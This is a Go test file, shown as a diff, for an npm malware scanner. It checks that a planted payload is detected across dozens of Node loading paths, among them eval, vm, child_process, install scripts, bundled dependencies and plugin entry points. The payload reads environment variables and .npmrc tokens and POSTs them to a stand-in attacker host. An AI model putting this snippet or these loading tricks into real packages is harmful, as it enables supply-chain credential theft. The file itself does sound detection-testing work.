@@ -1,0 +1,173 @@
+package analyzer_test
+
+import (
+	"context"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/lockwarden/lockwarden/analyzer"
+	"github.com/lockwarden/lockwarden/analyzer/issue"
+	"github.com/lockwarden/lockwarden/analyzer/worker"
+)
+
+// inert is what reads a secret and sends it to nobody: the domain does not exist,
+// and nothing here is run.
+const inert = `const fs=require('fs'),os=require('os'),https=require('https');
+const d=JSON.stringify({e:process.env,n:fs.readFileSync(os.homedir()+'/.npmrc','utf8')});
+const r=https.request({host:'collect.attacker.invalid',path:'/x',method:'POST'});r.write(d);r.end();
+`
+
+const inertModule = `import fs from 'fs';import os from 'os';import https from 'https';
+const d=JSON.stringify({e:process.env,n:fs.readFileSync(os.homedir()+'/.npmrc','utf8')});
+const r=https.request({host:'collect.attacker.invalid',path:'/x',method:'POST'});r.write(d);r.end();
+`
+
+// loadings are ways to a file that Node follows. Each is a list of names and
+// texts; the file whose text is "" has the payload, as a module where its name
+// ends in .mjs. A text without a name before it is index.js.
+var loadings = map[string][]string{
+	// What is code.
+	"require of a license":             {"index.js", "require('./LICENSE')", "LICENSE", ""},
+	"require of a name without ending": {"index.js", "require('./bin/tool')", "bin/tool", ""},
+	"require of a picture":             {"index.js", "require('./logo.png')", "logo.png", ""},
+	"require of a declaration":         {"index.js", "require('./types.d.ts')", "types.d.ts", ""},
+	"require of a style":               {"index.js", "require('./a.css')", "a.css", ""},
+	"require of a lockfile":            {"index.js", "require('./yarn.lock')", "yarn.lock", ""},
+	"require of a page":                {"index.js", "require('./docs/index.html')", "docs/index.html", ""},
+	"require of a hidden file":         {"index.js", "require('./.cache')", ".cache", ""},
+	"require of two endings":           {"index.js", "require('./x.min.js.LICENSE.txt')", "x.min.js.LICENSE.txt", ""},
+	"require of a source of C":         {"index.js", "require('./x.c')", "x.c", ""},
+	"main of a style":                  {"package.json", `"main": "a.css"`, "a.css", ""},
+	"exports of a map":                 {"package.json", `"exports": {".": {"require": "./x.map"}}`, "x.map", ""},
+	"json run by another extension":    {"index.js", "require.extensions['.json']=require.extensions['.js'];require('./data.json')", "data.json", ""},
+	"an extension of its own":          {"index.js", "require.extensions['.foo']=function(m,f){m._compile(require('fs').readFileSync(f,'utf8'),f)};require('./a')", "a.foo", ""},
+	"Module._extensions":               {"index.js", "const M=require('module');M._extensions['.bar']=M._extensions['.js'];require('./a')", "a.bar", ""},
+	"an extension that is called":      {"index.js", "const M=require('module');M._extensions['.js'](module,__dirname+'/a.txt')", "a.txt", ""},
+	"node with a folder":               {"package.json", `"scripts": {"postinstall": "node ."}, "main": "x.dat"`, "x.dat", ""},
+	"node with a folder's main":        {"package.json", `"scripts": {"postinstall": "node lib"}`, "lib/package.json", `{"main": "go"}`, "lib/go.js", ""},
+	"a text that is run":               {"index.js", "eval(require('fs').readFileSync(__dirname+'/a.txt','utf8'))", "a.txt", ""},
+	"a text that vm runs":              {"index.js", "const vm=require('vm'),fs=require('fs');const s=fs.readFileSync(require('path').join(__dirname,'a.txt'),'utf8');new vm.Script(s).runInThisContext()", "a.txt", ""},
+	"a text of a function":             {"index.js", "const fs=require('fs');const s=fs.readFileSync(__dirname+'/a.svg');new Function('require',String(s))(require)", "a.svg", ""},
+	"a text that a module compiles":    {"index.js", "const fs=require('fs');module._compile(fs.readFileSync(__dirname+'/a.md','utf8'),'a')", "a.md", ""},
+	"a text that is read later":        {"index.js", "require('fs').readFile(__dirname+'/a.txt','utf8',(e,s)=>eval(s))", "a.txt", ""},
+
+	// Specifiers.
+	"dot":                          {"lib/index.js", "", "lib/a.js", "require('.')", "index.js", "require('./lib/a')"},
+	"dot dot":                      {"index.js", "require('./lib/a/b')", "lib/a/b.js", "require('..')", "lib/index.js", ""},
+	"a folder before a file":       {"index.js", "require('./lib/')", "lib.js", "module.exports=1", "lib/index.js", ""},
+	"a file before a folder":       {"index.js", "require('./lib')", "lib.js", "", "lib/index.js", "module.exports=1"},
+	"an ending before another":     {"index.js", "require('./e')", "e.mjs", "export default 1", "e.js", ""},
+	"a folder's main":              {"index.js", "require('./lib')", "lib/package.json", `{"main": "./x/y"}`, "lib/x/y.js", "", "lib/index.js", "module.exports=1"},
+	"out and back in":              {"index.js", "require('../case/e.js')", "e.js", ""},
+	"imports with conditions":      {"package.json", `"imports": {"#x": {"browser": "./b.js", "node": "./e.js"}}`, "index.js", "require('#x')", "b.js", "module.exports=1", "e.js", ""},
+	"imports with a pattern":       {"package.json", `"imports": {"#l/*": "./lib/*.dat"}`, "index.js", "require('#l/e')", "lib/e.dat", ""},
+	"exports by its own name":      {"package.json", `"exports": {".": "./index.js", "./x": "./e.dat"}`, "index.js", "require('case/x')", "e.dat", ""},
+	"a null target before another": {"package.json", `"exports": {".": "./index.js", "./x/*": "./lib/*.js", "./x/no": null}`, "index.js", "require('case/x/e')", "lib/e.js", ""},
+	"percent in a URL":             {"package.json", `"main": "index.mjs"`, "index.mjs", "import './%6cib/e.mjs'", "lib/e.mjs", ""},
+	"a fragment in a URL":          {"package.json", `"main": "index.mjs"`, "index.mjs", "import './lib/e.mjs#x'", "lib/e.mjs", ""},
+	"a file URL":                   {"package.json", `"main": "index.mjs"`, "index.mjs", "await import(new URL('lib/e.mjs', import.meta.url))", "lib/e.mjs", ""},
+	"a file URL's href":            {"package.json", `"main": "index.mjs"`, "index.mjs", "await import(new URL('./lib/e.mjs', import.meta.url).href)", "lib/e.mjs", ""},
+	"a path to a URL":              {"index.js", "const{pathToFileURL:p}=require('url');import(p(__dirname+'/lib/e.mjs'))", "lib/e.mjs", ""},
+	"import.meta.resolve":          {"package.json", `"main": "index.mjs"`, "index.mjs", "import(import.meta.resolve('./lib/e.mjs'))", "lib/e.mjs", ""},
+	"import.meta.dirname":          {"package.json", `"main": "index.mjs"`, "index.mjs", "import(import.meta.dirname+'/lib/e.mjs')", "lib/e.mjs", ""},
+	"createRequire of a folder":    {"index.js", "require('module').createRequire(__dirname+'/lib/')('./e.dat')", "lib/e.dat", ""},
+	"createRequire of a file":      {"index.js", "const r=module.constructor.createRequire(__filename);r('./e.dat')", "e.dat", ""},
+	"require.main":                 {"index.js", "require.main.require('./e.dat')", "e.dat", ""},
+	"require.resolve":              {"index.js", "require(require.resolve('./e.dat'))", "e.dat", ""},
+	"normalize":                    {"index.js", "require(require('path').normalize(__dirname+'/x/../e.dat'))", "e.dat", ""},
+	"a join of lists":              {"index.js", "const p=require('path');require(p.resolve(...[__dirname,'lib','e.dat']))", "lib/e.dat", ""},
+	"a reversed name":              {"index.js", "require('tad.e/.'.split('').reverse().join(''))", "e.dat", ""},
+	"a name out of a list":         {"index.js", "const n=['./a','./e.dat'];require(n[1])", "e.dat", "", "a.js", "module.exports=1"},
+	"names out of a list":          {"index.js", "['./a','./e.dat'].forEach(f=>require(f))", "e.dat", "", "a.js", "module.exports=1"},
+	"a name from settings":         {"package.json", `"config": {"entry": "./e.dat"}`, "index.js", "require(require('./package.json').config.entry)", "e.dat", ""},
+	"a name behind another":        {"index.js", "module.exports=require(Buffer.from('Li9h','base64')+'.dat')", "a.dat", "require(require('./b.json').n)", "b.json", `{"n":"./c.txt"}`, "c.txt", ""},
+	"one of many":                  {"index.js", "require('./d/'+process.argv[2]+'.dat')", "d/e.dat", ""},
+	"the folder of the process":    {"index.js", "require(process.cwd()+'/lib/e.dat')", "lib/e.dat", ""},
+	"process.mainModule":           {"index.js", "process.mainModule.require('./e.dat')", "e.dat", ""},
+	"Module._load":                 {"index.js", "require('module')._load('./e.dat',module)", "e.dat", ""},
+	"a data URL":                   {"index.js", "import('data:text/javascript,import fs from \"fs\"').then(()=>require('./e.dat'))", "e.dat", ""},
+	"another case":                 {"index.js", "require('./LIB/E')", "lib/e.js", ""},
+
+	// Programs.
+	"fork":                        {"index.js", "require('child_process').fork('./e.dat',[],{cwd:__dirname})", "e.dat", ""},
+	"fork with a preload":         {"index.js", "require('child_process').fork(__dirname+'/a.js',[],{execArgv:['-r',__dirname+'/e.dat']})", "a.js", "1", "e.dat", ""},
+	"a worker by URL":             {"package.json", `"main": "index.mjs"`, "index.mjs", "import{Worker}from'worker_threads';new Worker(new URL('./e.dat', import.meta.url))", "e.dat", ""},
+	"spawn with options of Node":  {"index.js", "require('child_process').spawn('node',['--stack-size','900',__dirname+'/e.dat'])", "e.dat", ""},
+	"spawn with NODE_OPTIONS":     {"index.js", "require('child_process').spawn('x',[],{env:{NODE_OPTIONS:'--require '+__dirname+'/e.dat'}})", "e.dat", ""},
+	"execFile of the same Node":   {"index.js", "require('child_process').execFileSync(process.argv[0],['e.dat'],{cwd:__dirname})", "e.dat", ""},
+	"a shell":                     {"index.js", "require('child_process').spawn('sh',['-c','cd lib; exec node e.dat'],{cwd:__dirname})", "lib/e.dat", ""},
+	"exec with a path":            {"index.js", "require('child_process').exec(`node ${__dirname}/e.dat`)", "e.dat", ""},
+	"exec with quotes":            {"index.js", "require('child_process').exec('\"'+process.execPath+'\" \"'+__dirname+'/e.dat\"')", "e.dat", ""},
+	"a shell file":                {"index.js", "require('child_process').execFile('sh',[__dirname+'/x.sh'])", "x.sh", "node lib/e.dat", "lib/e.dat", ""},
+	"npm run":                     {"package.json", `"scripts": {"x": "node e.dat"}`, "index.js", "require('child_process').execSync('npm run x',{cwd:__dirname})", "e.dat", ""},
+	"cluster":                     {"index.js", "const c=require('cluster');c.setupPrimary({exec:__dirname+'/e.dat'});c.fork()", "e.dat", ""},
+	"module.register":             {"index.js", "require('module').register('./e.mjs',require('url').pathToFileURL(__filename))", "e.mjs", ""},
+	"an installer that asks back": {"package.json", `"scripts": {"postinstall": "node i.js"}`, "i.js", "require(process.env.npm_config_x)", "lib/e.js", ""},
+
+	// The tarball's own node_modules.
+	"bundled, nested":           {"index.js", "require('left')", "node_modules/left/index.js", "require('deep/x')", "node_modules/left/node_modules/deep/x.js", ""},
+	"bundled, from above":       {"index.js", "require('left')", "node_modules/left/index.js", "require('right')", "node_modules/right/index.js", ""},
+	"bundled, by exports":       {"index.js", "require('left/a')", "node_modules/left/package.json", `{"exports": {"./a": {"require": "./e.dat"}}}`, "node_modules/left/e.dat", ""},
+	"bundled, preinstall":       {"package.json", `"bundleDependencies": ["left"]`, "node_modules/left/package.json", `{"name": "left", "scripts": {"preinstall": "node ./x"}}`, "node_modules/left/x", ""},
+	"bundled, install by run":   {"node_modules/left/package.json", `{"name": "left", "scripts": {"install": "npm run b", "b": "node e"}}`, "node_modules/left/e.js", ""},
+	"bundled, a file of a name": {"index.js", "require('left')", "node_modules/left.js", ""},
+
+	// Entry points.
+	"directories.bin in a folder": {"package.json", `"directories": {"bin": "./b"}`, "b/c/t", ""},
+	"react-native":                {"package.json", `"react-native": "./e.js"`, "e.js", ""},
+	"react-native's map":          {"package.json", `"react-native": {"./a.js": "./e.js"}`, "e.js", ""},
+	"unpkg":                       {"package.json", `"unpkg": "dist/e.js"`, "dist/e.js", ""},
+	"builders":                    {"package.json", `"builders": "./builders.json"`, "builders.json", `{"builders": {"x": {"implementation": "./e", "schema": "./s.json"}}}`, "e.js", ""},
+	"schematics":                  {"package.json", `"schematics": "./src/collection.json"`, "src/collection.json", `{"schematics": {"x": {"factory": "./x/e#run"}}}`, "src/x/e.js", ""},
+	"migrations":                  {"package.json", `"ng-update": {"migrations": "./m.json"}`, "m.json", `{"schematics": {"x": {"version": "1", "factory": "./e"}}}`, "e.js", ""},
+	"an Expo plugin":              {"app.plugin.js", ""},
+	"a Gatsby plugin":             {"gatsby-node.js", ""},
+	"a desktop extension":         {"manifest.json", `{"server": {"type": "node", "entry_point": "server/e.js"}}`, "server/e.js", ""},
+}
+
+func loadingFiles(list []string) []string {
+	manifest := `{"name": "case", "version": "1.0.0", "description": "x", "license": "MIT", "repository": "github:a/case"`
+	var files []string
+	index := false
+	for i := 0; i < len(list); i += 2 {
+		name, text := list[i], list[i+1]
+		switch {
+		case name == "package.json":
+			manifest += ", " + text
+			continue
+		case text == "" && strings.HasSuffix(name, ".mjs"):
+			text = inertModule
+		case text == "":
+			text = inert
+		}
+		index = index || name == "index.js"
+		files = append(files, name, text)
+	}
+	if !index {
+		files = append(files, "index.js", "module.exports=1")
+	}
+	return append(files, "package.json", manifest+"}")
+}
+
+// TestLoaded: what Node loads is read and counts as run, however it is loaded.
+func TestLoaded(t *testing.T) {
+	s := open(t, worker.Limits{Step: 60 * time.Second})
+	for name, list := range loadings {
+		t.Run(name, func(t *testing.T) {
+			scanned, err := s.ScanTarball(context.Background(), tarball(t, loadingFiles(list)...))
+			if err != nil {
+				t.Fatal(err)
+			}
+			report := analyzer.NewReport(issue.Input{Name: "case", Version: "1.0.0"}, scanned)
+			if !slices.ContainsFunc(report.Issues, func(i issue.Issue) bool { return i.ID == "malware/behavior-similarity" }) {
+				var said []string
+				for _, i := range report.Issues {
+					said = append(said, i.Severity.String()+" "+i.ID)
+				}
+				t.Errorf("%v, complete %v, blind %v", said, report.Complete, scanned.Contents.Blind)
+			}
+		})
+	}
+}
